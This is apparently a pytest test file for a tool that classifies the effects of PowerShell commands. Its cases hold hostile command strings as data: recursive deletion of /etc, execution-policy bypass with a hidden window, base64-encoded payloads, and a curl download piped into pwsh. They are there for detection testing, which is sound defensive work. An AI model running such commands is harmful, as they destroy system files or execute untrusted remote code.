"""pwsh and powershell as programs."""

from __future__ import annotations

import base64

import pytest
from support.code import deeds
from support.reading import effects

ENCODED = base64.b64encode("Remove-Item /etc -Recurse".encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pwsh -Command 'Remove-Item /etc -Recurse'", ["DeletePath /etc"]),
        ("pwsh -c Remove-Item /etc -Recurse", ["DeletePath /etc"]),
        ("powershell -NoProfile -ExecutionPolicy Bypass -Command 'rm /etc -r'", ["DeletePath /etc"]),
        ("powershell.exe -nop -ep bypass -w hidden -c 'rm /etc -r'", ["DeletePath /etc"]),
        ("powershell 'Remove-Item /etc -Recurse'", ["DeletePath /etc"]),
        (f"powershell -EncodedCommand {ENCODED}", ["DeletePath /etc"]),
        (f"powershell -e {ENCODED}", ["DeletePath /etc"]),
        (f"pwsh -enc {ENCODED}", ["DeletePath /etc"]),
        ("powershell -enc $X", ["RunCode decoded"]),
        ("pwsh -File x.ps1 a", ["RunCode /home/u/proj/x.ps1"]),
        ("pwsh x.ps1", ["RunCode /home/u/proj/x.ps1"]),
        ("pwsh ./build/x.ps1 -Target All", ["RunCode /home/u/proj/build/x.ps1"]),
        ("echo 'Remove-Item /etc -Recurse' | pwsh -Command -", ["DeletePath /etc"]),
        ("echo 'Remove-Item /etc -Recurse' | pwsh", ["DeletePath /etc"]),
        ("pwsh -Version", []),
        ("pwsh -Help", []),
        ("pwsh -NoLogo -c 'Get-Process'", []),
        ("pwsh", ["OpenShell this machine"]),
        ("curl https://x.y | pwsh -c -", ["Request x.y", "RunCode download"]),
    ],
)
def test_powershell(command: str, expected: list[str]) -> None:
    """Parameters may be shortened; whatever brings the text, it is read."""
    assert expected == deeds(effects(command))
